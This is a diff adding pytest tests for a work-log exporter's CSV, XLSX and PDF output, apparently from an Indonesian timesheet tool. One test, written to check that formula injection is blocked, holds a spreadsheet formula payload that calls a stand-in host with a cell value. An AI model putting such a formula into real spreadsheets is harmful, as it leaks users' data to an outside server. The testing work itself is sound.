@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from datetime import date, datetime, time
 
 import pytest
@@ -215,3 +216,76 @@ def test_a_long_period_prints_a_line_a_month_not_a_day(log, profile, tmp_path):
     text = "\n".join(page.extract_text() for page in PdfReader(path).pages)
     assert "Bulan" in text and "November 2026 100 2" in text
     assert "03/11/2026 45" not in text  # no per-day line
+
+
+def _one_line(profile, clock, title, **fields):
+    clock.set(MONDAY_0800_WIB + 24 * HOUR)
+    task = TaskService(profile).add(title, 30, **fields)
+    SessionService(profile).add(task.id, MONDAY_0800_WIB, MONDAY_0800_WIB + 25 * MINUTE,
+                                note=fields.get("output"))  # fmt: skip
+    return build_log(profile, MONDAY, MONDAY, WIB)
+
+
+def test_text_that_looks_like_a_formula_or_a_link_stays_text(profile, clock, tmp_path):
+    evil = '=WEBSERVICE("https://contoh.invalid/?nip="&A2)'
+    log = _one_line(profile, clock, evil, output="mailto:kepala@contoh.go.id")
+    path = export.write_export(log, "xlsx", tmp_path / "a.xlsx", export.ExportProfile("d"))
+    sheet = load_workbook(path).worksheets[0]
+    task_cell, output_cell = sheet.cell(2, 8), sheet.cell(2, 10)
+    assert (task_cell.value, task_cell.data_type) == (evil, "s")
+    assert output_cell.value == "mailto:kepala@contoh.go.id" and output_cell.hyperlink is None
+    guarded = export.write_export(log, "csv", tmp_path / "a.csv", export.ExportProfile("d"))
+    row = list(csv.reader(io.StringIO(guarded.read_text(encoding="utf-8-sig")), delimiter=";"))[1]
+    assert row[7] == "'" + evil  # a spreadsheet shows it, never runs it
+    raw = export.ExportProfile("upload", formula_guard=False)
+    plain = export.write_export(log, "csv", tmp_path / "b.csv", raw)
+    row = list(csv.reader(io.StringIO(plain.read_text(encoding="utf-8-sig")), delimiter=";"))[1]
+    assert row[7] == evil
+
+
+def test_letters_the_pdf_font_lacks_print_as_a_question_mark_and_are_named(
+    profile, clock, tmp_path
+):
+    log = _one_line(profile, clock, "Kajian كتاب 会议 ✅ Ğüçlü")
+    assert export.unprintable(log) == {"ك", "ت", "ا", "ب", "会", "议", "✅"}
+    path = export.write_export(log, "pdf", tmp_path / "a.pdf", export.ExportProfile("d"))
+    text = PdfReader(path).pages[0].extract_text()
+    assert "Kajian ???? ?? ? Ğüçlü" in text
+
+
+def test_a_note_longer_than_a_page_is_cut_and_never_runs_off_it(profile, clock, tmp_path):
+    clock.set(MONDAY_0800_WIB + 24 * HOUR)
+    task = TaskService(profile).add("Laporan", 30)
+    SessionService(profile).add(task.id, MONDAY_0800_WIB, MONDAY_0800_WIB + MINUTE,
+                                note="kata " * 3000 + "AKHIR")  # fmt: skip
+    log = build_log(profile, MONDAY, MONDAY, WIB)
+    profile_ = export.ExportProfile("n", ("date", "task", "note"))
+    reader = PdfReader(export.write_export(log, "pdf", tmp_path / "n.pdf", profile_))
+    text = "\n".join(p.extract_text() for p in reader.pages)
+    assert "…" in text and "AKHIR" not in text
+
+
+def test_large_volumes_are_never_in_scientific_notation(profile, clock, tmp_path):
+    log = _one_line(profile, clock, "Pengadaan", volume="2500000,25", unit="rupiah")
+    path = export.write_export(log, "csv", tmp_path / "v.csv", export.ExportProfile("d"))
+    row = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))[1]
+    assert row[10] == "2500000,25"
+
+
+def test_a_profile_edited_by_hand_is_reported_and_the_others_still_work(tmp_path):
+    good = export.ExportProfile("ekinerja", ("date", "task"))
+    export.save_profile(tmp_path, good)
+    path = tmp_path / export.PROFILES_FILE
+    data = json.loads(path.read_text())
+    data["profiles"]["rusak"] = {"columns": [1, 2], "headers": {"task": None}}
+    path.write_text(json.dumps(data))
+    assert export.load_profiles(tmp_path) == {"ekinerja": good}
+    assert export.broken_profiles(tmp_path) == ["rusak"]
+    with pytest.raises(UserError, match=r"'rusak' .* is not valid"):
+        export.find_profile(tmp_path, "rusak")
+    export.save_profile(tmp_path, export.ExportProfile("rusak", ("date",)))  # replaced
+    assert export.broken_profiles(tmp_path) == []
+    path.write_text("[1, 2]")  # not profiles at all: reported, and never overwritten
+    with pytest.raises(UserError, match="cannot be read"):
+        export.save_profile(tmp_path, good)
+    assert path.read_text() == "[1, 2]"
